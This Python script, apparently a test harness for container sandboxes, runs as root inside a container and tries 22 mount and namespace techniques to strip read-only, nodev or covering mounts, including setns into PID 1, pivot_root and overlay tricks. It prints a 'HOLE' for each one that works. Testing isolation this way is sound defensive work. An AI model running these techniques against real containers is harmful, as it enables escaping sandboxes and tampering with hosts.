"""Run as a container's root: tries every way to take a mount's flags off, or what it covers away.

    attack_mounts.py writable PATH | device PATH | uncovered PATH

Prints "HOLE place way" for each way after which PATH can be written, read as a device, or is another file than before; at
the end how many ways it tried. Each way has a process of its own.
"""

import ctypes
import os
import signal
import stat
import sys

libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND, MS_REC, MS_MOVE, MS_PRIVATE, MNT_DETACH = 32, 4096, 16384, 8192, 1 << 18, 2
OPEN_TREE, MOVE_MOUNT, FSCONFIG, FSPICK, MOUNT_SETATTR, OPEN_TREE_ATTR, PIVOT_ROOT = 428, 429, 431, 433, 442, 467, 155
AT_FDCWD, EMPTY, RECURSIVE, CLONE = -100, 0x1000, 0x8000, 1
ALL_FLAGS = 1 | 2 | 4 | 8  # MOUNT_ATTR_RDONLY, NOSUID, NODEV, NOEXEC
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000

kind, path = sys.argv[1:]
mount_point = '/' if kind == 'device' else path
scratch = '/tmp/scratch'
if os.path.isdir(mount_point):
    os.makedirs(scratch, exist_ok=True)
else:
    open(scratch, 'w').close()


def c(text):
    return None if text is None else text.encode()


def mount(source, where, kind=None, flags=0, data=None):
    return libc.mount(c(source), c(where), c(kind), ctypes.c_ulong(flags), c(data))


def unshare(flags):
    if libc.unshare(flags) != 0:
        raise OSError(ctypes.get_errno(), 'unshare')


def call(number, *words):
    return libc.syscall(number, *words)


def clear():
    return ctypes.byref((ctypes.c_uint64 * 4)(0, ALL_FLAGS, 0, 0))


def identity(name):
    facts = os.stat(name)
    return facts.st_dev, facts.st_ino


before = identity(path)


def breached(at=path):
    """Whether the wall is gone for this process. `at`: where it has found or made the same file."""
    try:
        if kind != 'uncovered' and identity(at) != before:
            return False
        if kind == 'writable':
            name = os.path.join(at, 'planted') if os.path.isdir(at) else at
            os.close(os.open(name, os.O_WRONLY | os.O_CREAT))
            return True
        if kind == 'device':
            return len(os.read(os.open(at, os.O_RDONLY), 9)) == 9
        return at == path and identity(at) != before
    except OSError:
        return False


def below(top):
    """Where `path` is when its mount point is shown at `top`."""
    return top if mount_point == path else top + path


def remount():
    mount(None, mount_point, None, MS_REMOUNT | MS_BIND)
    return path


def remount_super():
    mount(None, mount_point, None, MS_REMOUNT)
    return path


def setattr_one():
    call(MOUNT_SETATTR, AT_FDCWD, c(mount_point), 0, clear(), 32)
    return path


def setattr_recursive():
    call(MOUNT_SETATTR, AT_FDCWD, c(mount_point), RECURSIVE, clear(), 32)
    return path


def bind_and_remount(flags=MS_BIND):
    mount(mount_point, scratch, None, flags)
    mount(None, scratch, None, MS_REMOUNT | MS_BIND)
    return below(scratch)


def rbind_and_remount():
    return bind_and_remount(MS_BIND | MS_REC)


def clone_and_setattr(flags=CLONE):
    tree = call(OPEN_TREE, AT_FDCWD, c(mount_point), flags)
    call(MOUNT_SETATTR, tree, b'', EMPTY, clear(), 32)
    return below(f'/proc/self/fd/{tree}')


def clone_and_setattr_recursive():
    return clone_and_setattr(CLONE | RECURSIVE)


def clone_with_attributes(flags=CLONE):
    return below(f'/proc/self/fd/{call(OPEN_TREE_ATTR, AT_FDCWD, c(mount_point), flags, clear(), 32)}')


def clone_with_attributes_recursive():
    return clone_with_attributes(CLONE | RECURSIVE)


def clone_attach_remount():
    tree = call(OPEN_TREE, AT_FDCWD, c(mount_point), CLONE | RECURSIVE)
    call(MOVE_MOUNT, tree, b'', AT_FDCWD, c(scratch), 4)
    mount(None, scratch, None, MS_REMOUNT | MS_BIND)
    return below(scratch)


def part_and_remount():
    place = '/tmp/part'
    os.makedirs(place, exist_ok=True) if os.path.isdir(path) else open(place, 'w').close()
    mount(path, place, None, MS_BIND)
    mount(None, place, None, MS_REMOUNT | MS_BIND)
    return place


def move():
    mount(mount_point, scratch, None, MS_MOVE)
    mount(None, scratch, None, MS_REMOUNT | MS_BIND)
    return below(scratch)


def move_new():
    call(MOVE_MOUNT, AT_FDCWD, c(mount_point), AT_FDCWD, c(scratch), 0)
    return path


def unmount():
    libc.umount2(c(mount_point), 0)
    return path


def unmount_lazily():
    libc.umount2(c(mount_point), MNT_DETACH)
    return path


def unmount_above():
    libc.umount2(c(os.path.dirname(mount_point)), MNT_DETACH)
    for top in ('/dev', '/proc', '/sys'):
        libc.umount2(c(top), MNT_DETACH)
    return path


def reconfigure():
    context = call(FSPICK, AT_FDCWD, c(mount_point), 0)
    call(FSCONFIG, context, 0, b'rw', None, 0)
    call(FSCONFIG, context, 7, None, None, 0)
    return path


def pivot():
    unshare(CLONE_NEWNS)  # all processes of a mount namespace get the new root
    mount(mount_point, scratch, None, MS_BIND | MS_REC)
    os.chdir(scratch)
    call(PIVOT_ROOT, b'.', b'.')
    mount(None, '/', None, MS_REMOUNT | MS_BIND)
    libc.umount2(b'.', MNT_DETACH)
    os.chdir('/')
    return '/' if mount_point == path else path


def enter_first():
    libc.setns(os.open('/proc/1/ns/mnt', os.O_RDONLY), CLONE_NEWNS)
    mount(None, mount_point, None, MS_REMOUNT | MS_BIND)
    return path


def shared_and_slave():
    mount(None, '/', None, MS_REC | 1 << 20)
    mount(None, '/', None, MS_REC | 1 << 19)
    mount(None, mount_point, None, MS_REMOUNT | MS_BIND)
    return path


def as_upper():
    mount('overlay', scratch, 'overlay', 0, f'lowerdir=/tmp,upperdir={mount_point},workdir={mount_point},userxattr')
    return below(scratch)


WAYS = (remount, remount_super, setattr_one, setattr_recursive, bind_and_remount, rbind_and_remount, clone_and_setattr,
        clone_and_setattr_recursive, clone_with_attributes, clone_with_attributes_recursive, clone_attach_remount,
        part_and_remount, move, move_new, unmount, unmount_lazily, unmount_above, reconfigure, pivot, enter_first, shared_and_slave, as_upper)


def in_place():
    pass


def in_copy():
    unshare(CLONE_NEWNS)


def in_child_namespace():
    """Root of a user namespace in the container's, with a copy of its mounts."""
    unshare(CLONE_NEWUSER | CLONE_NEWNS)
    for name, text in (('setgroups', 'deny'), ('uid_map', '0 0 1'), ('gid_map', '0 0 1')):
        with open(f'/proc/self/{name}', 'w') as file:
            file.write(text)


def from_child_namespace():
    """In the mounts of a user namespace below, which the container's root may enter."""
    ready, tell = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            unshare(CLONE_NEWUSER | CLONE_NEWNS)
        finally:
            os.close(tell)
        signal.pause()
    os.close(tell)
    os.read(ready, 1)
    libc.setns(os.open(f'/proc/{child}/ns/mnt', os.O_RDONLY), CLONE_NEWNS)
    os.kill(child, 9)


tried = 0
for place in (in_place, in_copy, in_child_namespace, from_child_namespace):
    for way in WAYS:
        tried += 1
        child = os.fork()
        if child == 0:
            signal.alarm(5)
            try:
                place()
                at = way()
                os._exit(7 if breached(at) or breached() else 0)
            except OSError:
                os._exit(7 if breached() else 0)
        status = os.waitpid(child, 0)[1]
        if status != 0:
            print('HOLE' if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7 else 'BROKEN', place.__name__, way.__name__, flush=True)
            if place is in_place:  # the next ones are to find the wall as it was
                mount(None, mount_point, None, MS_REMOUNT | MS_BIND | 1 | 4)
print('tried', tried, stat.filemode(os.stat(path).st_mode))
